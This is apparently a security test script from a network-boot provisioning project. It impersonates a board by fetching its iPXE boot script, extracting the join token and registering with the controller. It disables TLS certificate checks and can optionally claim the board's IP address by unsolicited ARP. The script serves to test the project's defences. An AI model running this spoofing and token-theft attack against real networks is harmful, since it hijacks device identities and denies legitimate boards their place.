// What a stranger does who wants a board's place: fetches the board's script, and joins with the token in it.
//
//   node test/attacks/take-place.ts MAC CONTROLLER [ADDRESS]     prints {"script": …, "session": … or null}
//
// With ADDRESS it says by ARP that this is its own, at the last moment: the board gets no permit from then on.
import { execFileSync } from 'node:child_process';
import { randomUUID } from 'node:crypto';
import { request } from 'node:https';
import { text } from 'node:stream/consumers';

const [mac = '', controller = '', address] = process.argv.slice(2);
if (address !== undefined) execFileSync('busybox', ['arping', '-U', '-c', '1', '-I', 'eth0', address]);
const fetched = await fetch(`http://${controller}:8480/boot.ipxe?mac=${mac}`, { signal: AbortSignal.timeout(5_000) });
const script = await fetched.text();
const token = /muster\.token=([0-9a-f]+)/.exec(script)?.[1];
const session = token === undefined ? null : await join(token);
process.stdout.write(JSON.stringify({ script, session }));

function join(from: string): Promise<string> {
  const facts = { model: 'stranger', cpu: '', cores: 1, memoryBytes: 1, kernel: '', interfaces: [] };
  const body = { mac, token: from, bootId: randomUUID(), serial: null, agentVersion: '1', sshHostKey: null, facts };
  return new Promise((resolve, reject) => {
    const asking = request(
      `https://${controller}:8443/v1/join`,
      { method: 'POST', rejectUnauthorized: false, headers: { 'content-type': 'application/json' } },
      (answer) => void text(answer).then(resolve, reject),
    );
    asking.once('error', reject);
    asking.end(JSON.stringify(body));
  });
}
